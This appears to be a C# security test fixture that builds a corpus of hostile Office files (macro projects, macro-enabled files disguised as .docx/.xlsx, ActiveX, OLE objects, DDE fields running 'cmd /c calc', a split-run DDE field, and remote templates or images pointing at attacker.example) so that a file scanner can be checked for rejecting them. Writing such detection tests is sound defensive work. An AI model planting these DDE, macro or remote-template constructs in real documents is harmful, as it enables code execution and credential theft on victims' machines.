namespace Ballast.Tests.Security.HostileFiles;

public static partial class HostileCorpus
{
    private const string DocRel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    private static IEnumerable<HostileFile> Active()
    {
        const string Macro = "含有宏或 ActiveX 控件";
        const string External = "引用了外部资源";
        const string Dde = "含有 DDE 字段";
        yield return Xlsx("macro-project", OfficeParts.Zip(OfficeParts.Xlsx(), new RawZip.Entry("xl/vbaProject.bin", [.. Cfb, .. new byte[512]])), Macro);
        var typed = OfficeParts.Xlsx();
        typed["[Content_Types].xml"] = typed["[Content_Types].xml"].Replace("</Types>",
            """<Override PartName="/xl/code.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>""", StringComparison.Ordinal);
        yield return Xlsx("macro-by-type", OfficeParts.Zip(typed, new RawZip.Entry("xl/code.bin", new byte[64])), Macro);
        yield return Xlsx("xlsm-as-xlsx", OfficeParts.With(OfficeParts.Xlsx(), "[Content_Types].xml",
            x => x.Replace("spreadsheetml.sheet.main+xml", "x", StringComparison.Ordinal)
                .Replace(OfficeParts.Office + "x", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", StringComparison.Ordinal)),
            "实际是启用宏的 Office 文件");
        yield return Other("docm-as-docx", ".docx", GoodFiles.DocxType, OfficeParts.With(OfficeParts.Docx(), "[Content_Types].xml",
            x => x.Replace(OfficeParts.Office + "wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml",
                StringComparison.Ordinal)), "实际是启用宏的 Office 文件");
        yield return Other("activex", ".docx", GoodFiles.DocxType,
            OfficeParts.Zip(OfficeParts.Docx(), RawZip.Text("word/activeX/activeX1.xml", "<a/>")), Macro);
        yield return Other("ole-object", ".docx", GoodFiles.DocxType,
            OfficeParts.Zip(OfficeParts.Docx(), new RawZip.Entry("word/embeddings/oleObject1.bin", [.. Cfb, .. new byte[1024]])), "是嵌入的 OLE 对象");
        var template = OfficeParts.Docx();
        template["word/_rels/document.xml.rels"] = OfficeParts.Rels(("rId9", DocRel + "/attachedTemplate", "http://attacker.example/t.dotm"))
            .Replace("/>", " TargetMode=\"External\"/>", StringComparison.Ordinal);
        yield return Other("remote-template", ".docx", GoodFiles.DocxType, OfficeParts.Zip(template), External);
        var linked = OfficeParts.Xlsx();
        linked["xl/drawings/_rels/drawing1.xml.rels"] = OfficeParts.Rels(("rId1", DocRel + "/image", @"\\attacker.example\share\a.png"))
            .Replace("/>", " TargetMode=\"External\"/>", StringComparison.Ordinal);
        yield return Xlsx("linked-image", OfficeParts.Zip(linked), External);
        var external = OfficeParts.Xlsx();
        external["[Content_Types].xml"] = OfficeParts.Types(("/xl/workbook.xml", OfficeParts.Office + "spreadsheetml.sheet.main+xml"),
            ("/xl/externalLinks/externalLink1.xml", OfficeParts.Office + "spreadsheetml.externalLink+xml"));
        external["xl/externalLinks/externalLink1.xml"] = OfficeParts.Decl + "<externalLink xmlns=\"urn:x\"><externalBook/></externalLink>";
        yield return Xlsx("external-link", OfficeParts.Zip(external), External);
        var ddeLink = OfficeParts.Xlsx();
        ddeLink["xl/externalLinks/externalLink1.xml"] =
            OfficeParts.Decl + "<externalLink xmlns=\"urn:x\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>";
        yield return Xlsx("dde-link", OfficeParts.Zip(ddeLink), Dde);
        const string Run = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
            + "<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        yield return Other("dde-field", ".docx", GoodFiles.DocxType, OfficeParts.Zip(OfficeParts.Docx($"<w:p>{Run}</w:p>")), Dde);
        yield return Other("dde-simple-field", ".docx", GoodFiles.DocxType,
            OfficeParts.Zip(OfficeParts.Docx("<w:p><w:fldSimple w:instr=\"DDE cmd &quot;/c calc&quot;\"/></w:p>")), Dde);
    }
}
